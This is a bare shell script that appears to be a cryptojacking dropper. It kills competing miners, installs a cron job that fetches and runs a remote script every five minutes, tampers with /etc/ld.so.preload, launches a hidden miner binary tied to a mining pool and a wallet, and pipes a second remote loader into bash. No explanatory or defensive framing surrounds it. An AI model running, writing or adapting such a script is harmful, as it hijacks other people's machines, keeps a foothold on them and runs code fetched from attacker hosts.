#!/bin/sh
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh') | crontab -
chattr -i /etc/ld.so.preload 2>/dev/null
./.x -o stratum+tcp://pool.example.com:3333 -u 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa -p x --donate-level=0 -B
wget -q -O- http://198.51.100.7:8080/ldr | bash
echo 0x52908400098527886E0F7030069857D2E4169EE7 > /tmp/.w
